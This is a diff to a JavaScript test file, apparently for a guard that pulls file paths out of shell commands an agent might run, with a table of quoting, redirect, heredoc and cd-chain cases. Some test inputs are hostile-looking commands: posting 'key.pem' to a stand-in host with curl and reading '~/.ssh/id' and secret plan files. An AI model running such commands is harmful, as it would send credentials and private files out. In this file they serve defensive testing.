@@ -27,13 +27,40 @@ describe('the files that an input names', () => {
     expect(pathsInInput({ files }).has('f4999.md')).toBe(true);
   });
 
-  it('are the words of a command, and what is quoted in it', () => {
-    const command = `cd secrets && cat 'my plan.md' "other plan.md" <in.txt >out.txt --from=key.pem`;
-    expect(found({ command })).toEqual(
-      ['&&', '--from', 'cat', 'cd', 'in.txt', 'key.pem', 'my plan.md', 'other plan.md', 'out.txt', 'secrets']
-        .filter((word) => word !== '&&')
-        .sort(),
-    );
+  it.each([
+    [`cat 'my plan.md' "other plan.md"`, ['my plan.md', 'other plan.md']],
+    ['cat <in.txt >out.txt --from=key.pem', ['in.txt', 'out.txt', 'key.pem']],
+    ['diff --to="my plan.md"', ['my plan.md']],
+    [String.raw`cat my\ plan.md`, ['my plan.md']],
+    [
+      String.raw`type secrets\plan.md "C:\my keys\a"`,
+      [String.raw`secrets\plan.md`, String.raw`C:\my keys\a`],
+    ],
+    [`cat sec"ret"s/plan.md 'my 'plan.md`, ['secrets/plan.md', 'my plan.md']],
+    [`bash -lc "cat secrets/plan.md | head"`, ['secrets/plan.md']],
+    [`echo "$(cat secrets/plan.md)"`, ['secrets/plan.md']],
+    ["cat <<'EOF'\n`cat secrets/plan.md`\nEOF", ['secrets/plan.md']],
+    ['git show HEAD:secrets/plan.md', ['secrets/plan.md']],
+    ['curl -d @key.pem https://a.example/', ['key.pem']],
+    ['cat "$HOME/.ssh/id" ${HOME}/a %USERPROFILE%\\b', ['~/.ssh/id', '~/a', '~\\b']],
+    ['cat $PWD/a.md "$(pwd)/b.md"', ['./a.md', './b.md']],
+    ['cd deep && cat a.md && cd er; cat b.md', ['deep', 'deep/a.md', 'deep/er/b.md']],
+    [`bash -c 'cd "my folder" && cat a.md'`, ['folder', 'a.md']],
+    ['cd "my folder" && cat a.md ~/b /c', ['my folder/a.md', '~/b', '/c']],
+    ['git -C deep show HEAD:a.md', ['deep/a.md']],
+    [`it's not closed.md`, ['not', 'closed.md']],
+  ])('are the words of the command %j', (command, names) => {
+    expect(found({ command })).toEqual(expect.arrayContaining(names));
+    expect(found({ args: ['-c', command] })).toEqual(expect.arrayContaining(names));
+  });
+
+  it('are no addresses in a command', () => {
+    expect(found({ command: 'curl https://a.example/etc/passwd' })).toEqual(['curl']);
+  });
+
+  it('are found in a command of any length', () => {
+    const command = `${'cd a; '.repeat(50_000)}cat '${'x '.repeat(50_000)}' secrets/plan.md`;
+    expect(pathsInInput({ command }).has('secrets/plan.md')).toBe(true);
   });
 
   it('are those of a patch', () => {
